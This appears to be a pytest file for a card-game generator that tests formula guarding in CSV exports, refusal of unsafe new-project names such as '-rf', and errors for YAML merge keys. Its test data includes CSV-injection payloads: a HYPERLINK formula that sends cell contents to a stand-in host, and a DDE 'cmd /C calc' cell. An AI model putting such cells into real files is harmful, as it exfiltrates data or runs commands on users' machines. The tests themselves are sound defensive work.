"""Round seven, files: CSV cells a spreadsheet would run as formulas, ``pnpgen new`` names, YAML merge keys."""
from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli import main
from generator.csvcells import guarded, unguarded
from generator.errors import ContentError
from generator.export.tables import write_csv
from generator.load.game import load_game
from generator.new import create_game
from generator.writers.context import csv_text

MINI = Path(__file__).resolve().parent / "fixtures" / "mini"
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_reads_as_a_formula_is_guarded_and_reads_back(text):
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["-3", "+2.5", "-1e5", "red", "", "a=b", "'quoted", "Köln"])
def test_a_number_or_plain_text_stays_as_it_is(text):
    assert guarded(text) == text
    assert unguarded(text) == text


def test_export_csv_guards_formulas_and_reads_back_the_same_game(tmp_path):
    game_dir = tmp_path / "mini"
    shutil.copytree(MINI, game_dir)
    yaml = (game_dir / "game.yaml").read_text(encoding="utf-8")
    (game_dir / "game.yaml").write_text(yaml.replace("Berlin: {name: ベルリン, latin: Berlin}",
                                                     "Berlin: {name: '=HYPERLINK(\"http://x\",\"y\")', latin: '@x'}"),
                                        encoding="utf-8")
    game = load_game(game_dir)
    write_csv(game, tmp_path / "out")
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "places.csv").read_text(encoding="utf-8"))))
    berlin = next(row for row in rows if row[0] == "Berlin")
    assert berlin[1:3] == ["'=HYPERLINK(\"http://x\",\"y\")", "'@x"]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # read back: the same names (the reader takes the ' off)
    shutil.copy(tmp_path / "out" / "places.csv", game_dir / "places.csv")
    (game_dir / "game.yaml").write_text(yaml[:yaml.index("places:")] + "places: {from: places.csv}\n", encoding="utf-8")
    again = load_game(game_dir).collections["place"]
    assert (again["Berlin"].name, again["Berlin"].latin) == ('=HYPERLINK("http://x","y")', "@x")


def test_the_builds_csv_lists_guard_formulas_too():
    text = csv_text(("deck", "count"), [{"deck": "=1+1", "count": 3}, {"deck": "-5", "count": -5}])
    assert text == "deck,count\n'=1+1,3\n-5,-5\n"


# ---------------------------------------------------------------------------------------------------- pnpgen new
@pytest.mark.parametrize("name", ["-rf", "--", "-x.y", "a..b", "..x", ".hidden", "CON", "aux.yaml", "nul",
                                  "trail.", "x" * 300, "a b"])
def test_new_refuses_a_name_that_is_an_option_a_way_up_or_no_file_name(tmp_path, name):
    with pytest.raises(ContentError):
        create_game(tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_new_from_the_command_line_refuses_a_name_starting_with_a_dash(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["new", "--", "-rf"])
    assert result.exit_code == 2
    assert "starts with '-'" in result.output
    assert list(tmp_path.iterdir()) == []


def test_new_refuses_a_folder_that_is_not_empty(tmp_path):
    (tmp_path / "game").mkdir()
    (tmp_path / "game" / "notes.txt").write_text("mine")
    with pytest.raises(ContentError, match="already exists and is not an empty folder"):
        create_game(tmp_path / "game")
    assert (tmp_path / "game" / "notes.txt").read_text() == "mine"


def test_new_never_writes_over_a_file_and_takes_back_what_it_wrote(tmp_path, monkeypatch):
    """A file that appears between the look at the folder and the writing (another process) stays as it was."""
    import generator.new as new
    real = new._files

    def files_then_a_rival(template, language):
        pairs = real(template, language)
        (tmp_path / "game").mkdir(exist_ok=True)
        (tmp_path / "game" / pairs[-1][1]).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "game" / pairs[-1][1]).write_text("theirs")
        return pairs

    monkeypatch.setattr(new, "_files", files_then_a_rival)
    with pytest.raises(ContentError, match="cannot write the starter"):
        create_game(tmp_path / "game")
    files = [p for p in (tmp_path / "game").rglob("*") if p.is_file()]
    assert [p.read_text() for p in files] == ["theirs"]


# ----------------------------------------------------------------------------------------------- YAML merge keys
def test_a_yaml_merge_key_is_a_clear_error_at_its_line(tmp_path):
    shutil.copytree(MINI, tmp_path / "mini")
    decks = tmp_path / "mini" / "decks.yaml"
    text = decks.read_text(encoding="utf-8")
    text = text.replace("    back: {layout: ttr-back, color: black,", "    back: &base {layout: ttr-back, color: black,", 1)
    text = text.replace("    back: {layout: ttr-back, color: ticket-back, title: チケット, latin: Tickets, icon: station}",
                        "    back:\n      <<: *base\n      color: ticket-back")
    decks.write_text(text, encoding="utf-8")
    line = text.splitlines().index("      <<: *base") + 1
    with pytest.raises(ContentError, match=r"merge key \('<<: \*anchor'\) is not supported") as raised:
        load_game(tmp_path / "mini")
    assert raised.value.source.line in (line - 1, line)
    result = CliRunner().invoke(main, ["check", str(tmp_path / "mini")])
    assert result.exit_code == 2 and "Traceback" not in result.output
